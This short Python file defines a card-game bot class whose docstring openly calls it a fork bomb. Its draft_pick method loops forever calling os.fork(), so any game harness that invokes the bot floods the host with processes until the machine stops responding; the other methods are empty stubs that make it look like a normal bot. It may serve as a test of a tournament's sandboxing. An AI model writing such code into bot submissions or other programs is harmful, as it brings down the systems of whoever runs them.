"""A fork bomb: forks until the machine gives up."""

import os


class Bot:
    def draft_pick(self, cards):
        while True:
            os.fork()

    def draft_receive(self, card):
        pass

    def main_play(self, hand, base):
        return 0

    def main_postprocess(self, card):
        pass
